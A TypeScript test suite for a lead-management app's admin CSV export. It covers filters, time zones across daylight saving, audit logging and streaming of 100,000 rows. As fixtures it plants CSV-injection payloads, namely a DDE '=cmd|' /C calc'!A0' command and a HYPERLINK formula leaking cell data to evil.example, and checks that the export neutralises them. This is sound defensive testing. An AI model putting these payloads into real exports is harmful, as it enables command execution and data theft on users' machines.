import v8 from "node:v8";
import vm from "node:vm";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { testDialects } from "../test-support/db";
import { LEAD_CSV_HEADER, leadCsvHeader } from "./csv";
import { type AdminTestApp, parseCsv, startAdminApp } from "../test-support/staff";

v8.setFlagsFromString("--expose-gc");
const gc = vm.runInNewContext("gc") as () => void;

const BULK = 100_000;
const MESSAGE = `${"Looking for a family NP, two days a week, Tulsa area, please call. ".repeat(15)}`.slice(
  0,
  1000,
);

async function insertBulkLeads(t: AdminTestApp, count: number, newest: number) {
  const columns = sql`(id, created_at, kind, status, first_name, last_name, email, phone, user_type,
    organization, message, form_source, ip_hash)`;
  if (t.db.dialect === "postgres") {
    await sql`
      INSERT INTO leads ${columns}
      SELECT 'bulk-' || lpad(n::text, 6, '0'), ${newest}::bigint - n * 1000, 'contact', 'new', 'First' || n,
        'Last', 'lead' || n || '@example.org', '+1 555 010 0000', 'employer', '=cmd|'' /C calc''!A0',
        ${MESSAGE}, 'Bulk', 'hash'
      FROM generate_series(1, ${count}::int) AS n
    `.execute(t.db.kysely);
  } else {
    await sql`
      WITH RECURSIVE seq(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM seq WHERE n < ${count})
      INSERT INTO leads ${columns}
      SELECT 'bulk-' || printf('%06d', n), ${newest} - n * 1000, 'contact', 'new', 'First' || n,
        'Last', 'lead' || n || '@example.org', '+1 555 010 0000', 'employer', '=cmd|'' /C calc''!A0',
        ${MESSAGE}, 'Bulk', 'hash'
      FROM seq
    `.execute(t.db.kysely);
  }
}

describe.each(testDialects)("CSV export (%s)", (dialect) => {
  let t: AdminTestApp;
  let cookie: string;
  let baseUrl: string;

  beforeAll(async () => {
    t = await startAdminApp(dialect, { BUSINESS_TZ: "America/New_York" });
    await t.addUser("exporter@apex.example");
    cookie = await t.signIn("exporter@apex.example");
    await t.app.listen({ port: 0, host: "127.0.0.1" });
    const address = t.app.server.address();
    if (!address || typeof address === "string") throw new Error("not listening");
    baseUrl = `http://127.0.0.1:${address.port}`;
  });
  afterAll(async () => {
    await t?.close();
  });

  it("neutralises formula cells, quotes per RFC 4180 and applies the inbox's filters", async () => {
    const hostile = await t.addLead({
      first_name: '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
      last_name: "+SUM(1,2)",
      email: "@attack.example",
      phone: "-1+1",
      organization: "\tTabbed, Inc.",
      location: "\rCarriage",
      message: 'He said "call me", then:\nsecond line\r\nthird line',
      user_type: "job_seeker",
      form_source: "Exit Intent Popup",
    });
    await t.addLead({
      first_name: "Filtered",
      last_name: "Out",
      user_type: "employer",
      form_source: "Exit Intent Popup",
    });

    const response = await t.app.inject({
      method: "GET",
      url: "/api/admin/export.csv?userType=job_seeker&source=Exit%20Intent%20Popup",
      headers: { cookie },
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers["content-disposition"]).toMatch(
      /^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(response.headers["cache-control"]).toBe("no-store");
    expect(response.body.startsWith("\uFEFF")).toBe(true);

    const rows = parseCsv(response.body.slice(1));
    expect(rows[0]).toEqual(leadCsvHeader(t.config.BUSINESS_TZ));
    expect(rows).toHaveLength(2);
    const cell = (name: (typeof LEAD_CSV_HEADER)[number]) => rows[1]![LEAD_CSV_HEADER.indexOf(name)];
    expect(cell("First name")).toBe(`'=HYPERLINK("http://evil.example/?leak="&A2,"Click me")`);
    expect(cell("Last name")).toBe("'+SUM(1,2)");
    expect(cell("Email")).toBe("'@attack.example");
    expect(cell("Phone")).toBe("'-1+1");
    expect(cell("Organization")).toBe("'\tTabbed, Inc.");
    expect(cell("Location")).toBe("'\rCarriage");
    expect(cell("Message")).toBe('He said "call me", then:\nsecond line\r\nthird line');
    expect(cell("Lead ID")).toBe(hostile.id);
    expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click me"")"`);

    const audit = await t.kdb
      .selectFrom("admin_audit_log")
      .select(["actor", "detail"])
      .where("action", "=", "export")
      .orderBy("created_at", "desc")
      .executeTakeFirstOrThrow();
    expect(audit.actor).toBe("exporter@apex.example");
    expect(JSON.parse(audit.detail)).toEqual({
      filters: { userType: "job_seeker", source: "Exit Intent Popup" },
      rows: 1,
      complete: true,
    });
  });

  const exportRows = async (query: string) => {
    const response = await t.app.inject({
      method: "GET",
      url: `/api/admin/export.csv?${query}`,
      headers: { cookie },
    });
    expect(response.statusCode, response.body).toBe(200);
    return parseCsv(response.body.slice(1))
      .slice(1)
      .map((row) => Object.fromEntries(LEAD_CSV_HEADER.map((name, i) => [name, row[i]])));
  };

  it("writes the owner, the number of notes and the first response, in the firm's time zone with its offset", async () => {
    const ria = await t.addUser("ria.owner@apex.example");
    const worked = await t.addLead({
      first_name: "Worked",
      last_name: "Zorander",
      email: "worked@example.org",
    });
    await t.addLead({ first_name: "Untouched", last_name: "Zorander", email: "untouched@example.org" });
    const post = (path: string, payload: object) =>
      t.app.inject({
        method: "POST",
        url: `/api/admin/leads/${worked.id}/${path}`,
        headers: { cookie, origin: t.origin },
        payload,
      });
    expect((await post("owner", { ownerId: ria.id })).statusCode).toBe(200);
    expect((await post("status", { status: "contacted", note: "Left a voicemail" })).statusCode).toBe(200);
    expect((await post("status", { status: "contacted", note: "She called back" })).statusCode).toBe(200);
    expect((await post("status", { status: "qualified", note: "" })).statusCode).toBe(200);
    const history = await t.kdb
      .selectFrom("lead_status_changes")
      .select("created_at")
      .where("lead_id", "=", worked.id)
      .orderBy("created_at")
      .execute();
    expect(history).toHaveLength(3);

    const rows = await exportRows("q=zorander");
    expect(rows).toHaveLength(2);
    const workedRow = rows.find((row) => row["First name"] === "Worked");
    const untouchedRow = rows.find((row) => row["First name"] === "Untouched");
    expect(workedRow).toMatchObject({
      "First name": "Worked",
      Status: "Qualified",
      Owner: "ria.owner@apex.example",
      Notes: "2",
    });
    const iso = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}-0[45]:00$/;
    const firstResponse = workedRow!["First response"]!;
    expect(firstResponse).toMatch(iso);
    expect(Date.parse(firstResponse)).toBe(Math.floor(Number(history[0]!.created_at) / 1000) * 1000);
    expect(workedRow!.Received).toMatch(iso);
    expect(Date.parse(workedRow!.Received!)).toBe(Math.floor(Number(worked.created_at) / 1000) * 1000);
    expect(untouchedRow).toMatchObject({
      "First name": "Untouched",
      Owner: "",
      Notes: "0",
      "First response": "",
    });
  });

  it("writes each time with the offset in force at that moment, across a daylight-saving change", async () => {
    // In on Saturday 7 March 2026 at 15:00 (EST); answered on Monday 9 March at 9:00 (EDT, clocks went forward on the 8th).
    const lead = await t.addLead({
      first_name: "Springforward",
      email: "spring@example.org",
      created_at: Date.UTC(2026, 2, 7, 20, 0, 0),
      status: "contacted",
    });
    const user = await t.addUser("dst@apex.example");
    await t.kdb
      .insertInto("lead_status_changes")
      .values({
        id: "dst-change-1",
        lead_id: lead.id,
        created_at: Date.UTC(2026, 2, 9, 13, 0, 0),
        from_status: "new",
        to_status: "contacted",
        note: "Called on Monday",
        user_id: user.id,
        user_email: "dst@apex.example",
      })
      .execute();
    const [row] = await exportRows("q=springforward");
    expect(row).toMatchObject({
      Received: "2026-03-07T15:00:00-05:00",
      "First response": "2026-03-09T09:00:00-04:00",
      Notes: "1",
      Owner: "",
    });
  });

  it("answers 400 to malformed filters", async () => {
    const response = await t.app.inject({
      method: "GET",
      url: "/api/admin/export.csv?from=soon",
      headers: { cookie },
    });
    expect(response.statusCode).toBe(400);
  });

  it("streams 100,000 leads (over 100 MB of CSV) in constant memory", async () => {
    const newest = Date.now() - 60_000;
    await insertBulkLeads(t, BULK, newest);
    // PostgreSQL's autovacuum analyses a table that grew by 100,000 rows within a minute or so; this test's
    // database would not wait for it, and on the statistics of an empty table the planner reads every older
    // row and sorts them for each page (19 s for the export instead of 7).
    if (dialect === "postgres") await sql`analyze leads`.execute(t.kdb);

    gc();
    const heap = () => process.memoryUsage().heapUsed;
    const baseline = heap();
    let peak = 0;
    let bytes = 0;
    let lineBreaks = 0;
    let nextSample = 0;
    let head = "";
    let tail = "";

    const response = await fetch(`${baseUrl}/api/admin/export.csv?source=Bulk`, { headers: { cookie } });
    expect(response.status).toBe(200);
    const decoder = new TextDecoder("utf-8", { ignoreBOM: true });
    const reader = response.body!.getReader();
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      bytes += value.byteLength;
      const text = decoder.decode(value, { stream: true });
      for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1)) lineBreaks += 1;
      if (head.length < 4000) head += text.slice(0, 4000);
      tail = (tail + text).slice(-4000);
      if (bytes >= nextSample) {
        gc();
        peak = Math.max(peak, heap() - baseline);
        nextSample = bytes + 8 * 1024 * 1024;
      }
    }

    expect(bytes).toBeGreaterThan(100 * 1024 * 1024);
    expect(lineBreaks).toBe(BULK + 1);
    // A buffered export would hold the whole file (>100 MB) or every row at once.
    expect(peak).toBeLessThan(24 * 1024 * 1024);

    expect(head.startsWith("\uFEFF")).toBe(true);
    const [header, first] = parseCsv(head.slice(1, head.indexOf("\r\n", head.indexOf("\r\n") + 2) + 2));
    expect(header).toEqual(leadCsvHeader(t.config.BUSINESS_TZ));
    expect(first![3]).toBe("First1");
    expect(first![7]).toBe("'=cmd|' /C calc'!A0");
    expect(first![6]).toBe("'+1 555 010 0000");
    expect(tail).toContain(`"bulk-${String(BULK).padStart(6, "0")}"\r\n`);

    const audit = await t.kdb
      .selectFrom("admin_audit_log")
      .select("detail")
      .where("action", "=", "export")
      .orderBy("created_at", "desc")
      .executeTakeFirstOrThrow();
    expect(JSON.parse(audit.detail)).toMatchObject({ rows: BULK, complete: true });
  }, 240_000);
});
